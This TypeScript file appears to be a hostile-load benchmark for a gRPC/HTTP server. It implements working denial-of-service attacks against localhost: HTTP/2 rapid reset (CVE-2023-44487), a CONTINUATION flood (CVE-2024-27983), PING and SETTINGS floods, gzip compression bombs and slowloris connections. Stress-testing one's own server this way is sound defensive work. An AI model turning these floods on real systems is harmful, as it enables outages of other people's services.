import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { aborted } from './aborted.ts';
import { bombsBelowTheLimit, bombsForHealth, headerOnlyCalls, healthWatches } from './call-attacks.ts';
import { oneGreedyCaller, unreadExports } from './greedy-callers.ts';
import { continuation, field, frame, headers, preface, reset } from './raw-http2.ts';

/** Where to attack. */
export interface AttackTarget {
  readonly grpcPort: number;
  readonly httpPort: number;
  /** How many connections the slow ones open. */
  readonly slowConnections: number;
}

/** One way to attack. */
export interface Attack {
  /** Goes on until the signal aborts, then leaves nothing behind. @param heard told each answer that is waited for */
  run(target: AttackTarget, signal: AbortSignal, heard: (answer: string) => void): Promise<void>;
  /** What the server may answer, where answers are waited for. */
  readonly expected?: readonly string[];
  /** It is a caller like others, who has a share and no more. */
  readonly hasShare?: boolean;
}

/** One whose answers nobody waits for. */
type Flood = (target: AttackTarget, signal: AbortSignal) => Promise<void>;

const path = '/finance.funds.v1.FundsService/ListFunds';

/** Streams that are opened and taken back at once (CVE-2023-44487). */
const rapidReset: Flood = (target, signal) =>
  flood(target, signal, (round) => {
    const streams = Array.from({ length: 100 }, (_, index) => 2 * (round * 100 + index) + 1);
    return Buffer.concat(streams.flatMap((id) => [headers(id, path), reset(id)]));
  });

/** Headers that never end (CVE-2024-27983). */
const continuationFlood: Flood = (target, signal) =>
  flood(target, signal, (round) =>
    round === 0 ? headers(1, path, false) : Buffer.concat(Array.from({ length: 50 }, () => continuation(1, 1_000))),
  );

/** Pings and settings that want an answer each. */
const pingFlood: Flood = (target, signal) =>
  flood(target, signal, () =>
    Buffer.concat(Array.from({ length: 100 }, () => [frame(0x6, 0, 0, Buffer.alloc(8)), frame(0x4, 0, 0)]).flat()),
  );

/** Small messages that decompress to 50 MB. */
const compressionBombs: Flood = (target, signal) => {
  const bomb = gzipSync(Buffer.alloc(50_000_000));
  const message = Buffer.concat([Buffer.of(1), lengthOf(bomb), bomb]);
  const parts = Array.from({ length: Math.ceil(message.length / 16_384) }, (_, index) =>
    message.subarray(index * 16_384, (index + 1) * 16_384),
  );
  const encoding = field('grpc-encoding', 'gzip');
  return flood(target, signal, (round) => {
    const id = 2 * round + 1;
    const begin = headers(id, path, false);
    const rest = frame(0x9, 0x4, id, encoding);
    const data = parts.map((part, index) => frame(0x0, index === parts.length - 1 ? 1 : 0, id, part));
    return round > 2 ? frame(0x6, 0, 0, Buffer.alloc(8)) : Buffer.concat([begin, rest, ...data]);
  });
};

/** Connections that say almost nothing: no greeting, headers letter by letter, a body that never comes. */
const slowloris: Flood = async ({ grpcPort, httpPort, slowConnections }, signal) => {
  const begin = [
    (socket: Socket) => socket.write('PRI'),
    (socket: Socket) => socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\n`),
    (socket: Socket) => socket.write(Buffer.concat([preface, headers(1, path)])),
  ];
  const sockets = Array.from({ length: slowConnections }, (_, index) => {
    const socket = connect(index % 2 === 0 ? grpcPort : httpPort, '127.0.0.1');
    socket.on('error', () => undefined).resume();
    socket.once('connect', () => begin[index % 3]?.(socket));
    return socket;
  });
  const drip = setInterval(() => {
    for (const [index, socket] of sockets.entries()) if (index % 3 === 1 && socket.writable) socket.write('x');
  }, 1_000);
  await aborted(signal);
  clearInterval(drip);
  for (const socket of sockets) socket.destroy();
};

/** What `bench:hostile` tries, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': { run: rapidReset },
  'CONTINUATION flood': { run: continuationFlood },
  'PING and SETTINGS flood': { run: pingFlood },
  'compression bombs': { run: compressionBombs },
  slowloris: { run: slowloris },
  'bombs below the limit': bombsBelowTheLimit,
  'bombs for health': bombsForHealth,
  'header-only calls': headerOnlyCalls,
  'health watches': healthWatches,
  'one greedy caller': { run: ({ grpcPort }, signal) => oneGreedyCaller(grpcPort, signal), hasShare: true },
  'unread exports': { run: ({ grpcPort }, signal) => unreadExports(grpcPort, signal) },
};

/** One connection to each port that sends as fast as it is read, opened again whenever the server has had enough. */
async function flood(target: AttackTarget, signal: AbortSignal, round: (index: number) => Buffer): Promise<void> {
  const attackPort = (port: number) => {
    if (signal.aborted) return;
    const socket = connect(port, '127.0.0.1');
    let index = 0;
    const send = () => {
      while (!signal.aborted && socket.writable && socket.write(round(index))) {
        index += 1;
        // Lets this process notice what the server says.
        if (index % 20 === 0) return void setTimeout(send, 1);
      }
      index += 1;
    };
    const stop = () => socket.destroy();
    signal.addEventListener('abort', stop, { once: true });
    socket.on('error', () => undefined).resume();
    socket.once('connect', () => (socket.write(preface), send()));
    socket.on('drain', send);
    socket.once('close', () => {
      signal.removeEventListener('abort', stop);
      setTimeout(() => attackPort(port), 20);
    });
  };
  attackPort(target.grpcPort);
  attackPort(target.httpPort);
  await aborted(signal);
}

function lengthOf(bytes: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(bytes.length);
  return length;
}
